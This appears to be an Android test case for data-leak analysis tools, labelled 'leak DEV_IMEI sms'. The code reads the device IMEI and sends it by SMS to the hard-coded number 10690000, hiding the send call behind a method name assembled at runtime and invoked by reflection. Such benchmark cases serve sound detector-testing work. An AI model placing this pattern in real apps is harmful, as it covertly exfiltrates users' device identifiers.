// about       The name of the method that is called comes out of a format.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String name = String.format("%s%s", "se", "nd");
    try {
      getClass().getMethod(name, String.class).invoke(this, phone.getDeviceId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }

  public void send(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  public void show(String text) {
    setTitle(text);
  }
}
